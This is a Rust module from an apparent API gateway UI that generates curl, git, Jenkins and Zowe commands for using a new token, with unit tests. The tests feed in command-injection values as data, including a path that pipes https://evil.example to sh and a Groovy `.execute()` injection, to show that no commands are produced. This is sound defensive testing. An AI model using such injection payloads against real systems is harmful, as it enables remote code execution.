//! Commands that a user can paste to use a new token.

use std::fmt::Write;

use tower_passticket::token::{Scope, ScopeAccess};

use super::{services::Service, texts::created as texts};

/// A command, with its heading.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Command {
    /// The id of its element in the page.
    pub(super) id: &'static str,
    pub(super) heading: &'static str,
    pub(super) hint: Option<&'static str>,
    pub(super) text: String,
}

/// Returns the commands for a token with `scope`, a scope for `service` (docs/operating/tools.md). `authority` is the
/// address of the gateway: a host and perhaps a port. The result contains a command only if the scope certainly permits
/// all requests of the command. The commands contain no token, because a command stays in the history of the shell.
/// They do not pass the token as an argument, because other users of the system see the arguments of a program.
///
/// There are no commands if a shell, or the language of Jenkins, could execute a part of `authority` or of the path of
/// `service`. The path of the service may come from Eureka, in which a program can register any text. `authority` may
/// come from the client. The path of `scope` needs no such check, because it is percent-encoded.
pub(super) fn commands_for(authority: &str, service: &Service, scope: &Scope) -> Vec<Command> {
    if !is_literal(authority) || !is_literal(&service.path) {
        return Vec::new();
    }
    let (host, port) = split(authority);
    let path = service.path.trim_end_matches('/');
    let base = path.trim_start_matches('/');
    let below = match scope.access() {
        ScopeAccess::Path(path) => for_shell(path.as_str().trim_end_matches('/')),
        _ => String::new(),
    };
    let path = format!("{path}{below}");
    let url = format!("https://{authority}{path}");
    let command = |id, heading, hint, text| Command { id, heading, hint, text };
    let mut commands = vec![
        command(
            "command-variable",
            texts::VARIABLE,
            Some(texts::VARIABLE_HINT),
            "read -rs PAT && export PAT".to_owned(),
        ),
        command(
            "command-curl",
            texts::CURL,
            None,
            format!("printf 'PRIVATE-TOKEN: %s\\n' \"$PAT\" | curl -fsS -H @- {url}/"),
        ),
        command(
            "command-git",
            texts::GIT,
            None,
            format!(
                "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.https://{authority}/.extraHeader\n\
                 export GIT_CONFIG_VALUE_0=\"PRIVATE-TOKEN: $PAT\"\n\
                 git clone {url}/PROJECT.git"
            ),
        ),
        command(
            "command-jenkins",
            texts::JENKINS,
            Some(texts::JENKINS_HINT),
            format!(
                "withCredentials([string(credentialsId: 'gateway-token', variable: 'PAT')]) {{\n  \
                 httpRequest url: '{url}/',\n    \
                 customHeaders: [[name: 'PRIVATE-TOKEN', value: PAT, maskValue: true]]\n}}"
            ),
        ),
        command(
            "command-zowe",
            texts::ZOWE_CLI,
            None,
            format!(
                "export ZOWE_OPT_HOST={host} ZOWE_OPT_PORT={port} ZOWE_OPT_BASE_PATH={base}\n\
                 export ZOWE_OPT_TOKEN_TYPE=personalAccessToken ZOWE_OPT_TOKEN_VALUE=$PAT\n\
                 zowe zosmf check status"
            ),
        ),
    ];
    match scope.access() {
        // git sends POST requests even to read.
        ScopeAccess::Read => commands.retain(|command| command.id != "command-git"),
        // The plug-ins of the Zowe CLI decide which paths it requests. It is not certain that a scope with a path
        // permits these paths.
        ScopeAccess::Path(_) => commands.retain(|command| command.id != "command-zowe"),
        _ => {}
    }
    commands
}

/// Percent-encodes the characters of a path that a shell or a string of Groovy would not take literally. Of the
/// characters that a scope path may contain, only `!`, `$`, `&`, `'`, `(` and `)` are encoded.
fn for_shell(path: &str) -> String {
    let mut encoded = String::with_capacity(path.len());
    for char in path.chars() {
        if char.is_ascii_alphanumeric() || "/-._~+=:@%".contains(char) {
            encoded.push(char);
        } else {
            for byte in char.encode_utf8(&mut [0; 4]).bytes() {
                let _ = write!(encoded, "%{byte:02X}");
            }
        }
    }
    encoded
}

/// Returns whether all programs that read the commands take a text literally. Such a text has only letters, digits and
/// a few other characters, and does not look like an option.
fn is_literal(text: &str) -> bool {
    let is_literal = |byte: u8| byte.is_ascii_alphanumeric() || b"/-._~:[]".contains(&byte);
    !text.starts_with('-') && text.bytes().all(is_literal)
}

/// Splits an authority into host and port. Without a port, the port is 443.
fn split(authority: &str) -> (&str, &str) {
    match authority.rsplit_once(':') {
        Some((host, port)) if !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()) => {
            (host, port)
        }
        _ => (authority, "443"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ui::access::Allowed;

    #[test]
    fn commands_name_the_gateway_and_the_service_but_no_token() {
        let service = Service {
            id: "files".to_owned(),
            title: None,
            description: None,
            path: "/files/api/v1".to_owned(),
            allowed: Allowed::All,
        };
        let commands_of =
            |scope| commands_for("gw.example:10010", &service, &Scope::new(scope).unwrap());
        let commands = commands_of("files");
        let text = |id: &str| &commands.iter().find(|command| command.id == id).unwrap().text;
        assert_eq!(
            text("command-curl"),
            "printf 'PRIVATE-TOKEN: %s\\n' \"$PAT\" | curl -fsS -H @- https://gw.example:10010/files/api/v1/"
        );
        let zowe = "ZOWE_OPT_HOST=gw.example ZOWE_OPT_PORT=10010 ZOWE_OPT_BASE_PATH=files/api/v1\n";
        assert!(text("command-zowe").contains(zowe), "{}", text("command-zowe"));
        let git = text("command-git");
        assert!(git.contains("_KEY_0=http.https://gw.example:10010/.extraHeader\n"), "{git}");
        assert!(
            git.ends_with("\ngit clone https://gw.example:10010/files/api/v1/PROJECT.git"),
            "{git}"
        );
        let ids = |commands: &[Command]| commands.iter().map(|it| it.id).collect::<Vec<_>>();
        let read = ids(&commands_of("files:read"));
        assert_eq!(read, ["command-variable", "command-curl", "command-jenkins", "command-zowe"]);
        let below = commands_of("files:/$(x)'&!/%2Ca/");
        let want = ["command-variable", "command-curl", "command-git", "command-jenkins"];
        assert_eq!(ids(&below), want);
        let url = "https://gw.example:10010/files/api/v1/%24%28x%29%27%26%21/%2Ca/";
        assert!(below[1].text.ends_with(url), "{}", below[1].text);
        assert!(below[2].text.ends_with(&format!("{url}PROJECT.git")), "{}", below[2].text);
        for (authority, want) in
            [("gw", ("gw", "443")), ("[::1]:8443", ("[::1]", "8443")), ("[::1]", ("[::1]", "443"))]
        {
            assert_eq!(split(authority), want);
        }
    }

    #[test]
    fn there_are_no_commands_for_an_address_that_a_shell_could_execute() {
        let commands = |authority: &str, path: &str| {
            let (id, path) = ("files".to_owned(), path.to_owned());
            let allowed = Allowed::All;
            let service = Service { id, title: None, description: None, path, allowed };
            commands_for(authority, &service, &Scope::new("files").unwrap()).len()
        };
        assert_eq!(commands("[::1]:8443", "/files/api/v1.0/a-b_c~d"), 5);
        for byte in (0..=0xffu8).map(char::from).filter(|char| !char.is_ascii_alphanumeric()) {
            let is_harmless = "/-._~:[]".contains(byte);
            for (authority, path) in [
                (format!("gw{byte}x"), "/files".to_owned()),
                ("gw".to_owned(), format!("/f{byte}")),
            ] {
                let want = if is_harmless { 5 } else { 0 };
                assert_eq!(commands(&authority, &path), want, "{authority:?} {path:?}");
            }
        }
        assert_eq!(commands("-o.example", "/files"), 0);
        assert_eq!(commands("gw", "/files/v1; curl -s https://evil.example | sh; #"), 0);
        assert_eq!(commands("gw", "/files/v1'+'id'.execute()+'"), 0);
    }
}
